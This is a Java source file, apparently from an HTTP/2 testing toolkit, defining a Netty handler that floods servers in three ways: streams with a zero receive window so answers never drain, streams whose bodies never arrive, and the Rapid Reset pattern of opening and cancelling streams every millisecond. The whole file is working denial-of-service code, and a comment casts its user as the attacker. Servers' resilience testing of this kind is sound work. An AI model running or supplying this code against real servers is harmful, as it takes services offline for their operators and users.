package dev.offshoot.testing.attack;

import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
import io.netty.handler.codec.http2.Http2CodecUtil;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameWriter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import io.netty.util.ReferenceCountUtil;
import java.util.concurrent.TimeUnit;

/** Writes the frames of HTTP/2 (RFC 9113) without heeding what the other side allows. */
@SuppressWarnings("FutureReturnValueIgnored") // nobody waits for what an attacker writes
public final class Http2Connection extends ChannelInboundHandlerAdapter {
    private static final int FRAMES_AT_ONCE = 200;
    private static final int TENTHS = 10;

    private final Http2FrameWriter frames = new DefaultHttp2FrameWriter();
    private final Http2Headers request;
    private final int streams;
    private final boolean ends;
    private final boolean resets;
    private int lastStream = -1;
    private boolean acknowledged;

    private Http2Connection(Http2Headers request, int streams, boolean ends, boolean resets) {
        this.request = request;
        this.streams = streams;
        this.ends = ends;
        this.resets = resets;
    }

    /** Asks on so many streams at once, and on a tenth of as many every second, and lets nothing of the answers through. */
    public static Http2Connection unread(Http2Headers request, int streams) {
        return new Http2Connection(request, streams, true, false);
    }

    /** Opens so many streams at once, and a tenth of as many every second, whose bodies never come. */
    public static Http2Connection unfinished(Http2Headers request, int streams) {
        return new Http2Connection(request, streams, false, false);
    }

    /** Opens streams and resets each at once, as fast as it goes. */
    public static Http2Connection rapidReset(Http2Headers request) {
        return new Http2Connection(request, FRAMES_AT_ONCE, true, true);
    }

    @Override
    public void channelActive(ChannelHandlerContext context) {
        context.write(Http2CodecUtil.connectionPrefaceBuf());
        frames.writeSettings(
                context, new Http2Settings().initialWindowSize(0).pushEnabled(false), context.newPromise());
        if (resets) {
            resetForever(context);
            return;
        }
        openStreams(context, streams);
        var each = context.executor()
                .scheduleAtFixedRate(() -> openStreams(context, streams / TENTHS), 1, 1, TimeUnit.SECONDS);
        context.channel().closeFuture().addListener(closed -> each.cancel(false));
    }

    /** The first bytes are the other side's settings. */
    @Override
    public void channelRead(ChannelHandlerContext context, Object message) {
        ReferenceCountUtil.release(message);
        if (!acknowledged) {
            acknowledged = true;
            frames.writeSettingsAck(context, context.newPromise());
            context.flush();
        }
    }

    @Override
    public void exceptionCaught(ChannelHandlerContext context, Throwable cut) {
        context.close();
    }

    private void openStreams(ChannelHandlerContext context, int number) {
        for (var each = 0; each < number; each++) {
            lastStream += 2;
            frames.writeHeaders(context, lastStream, request, 0, ends, context.newPromise());
            if (resets) {
                frames.writeRstStream(context, lastStream, Http2Error.CANCEL.code(), context.newPromise());
            }
        }
        context.flush();
    }

    private void resetForever(ChannelHandlerContext context) {
        if (context.channel().isWritable()) {
            openStreams(context, streams);
        }
        if (context.channel().isOpen()) {
            var unused = context.executor().schedule(() -> resetForever(context), 1, TimeUnit.MILLISECONDS);
        }
    }
}
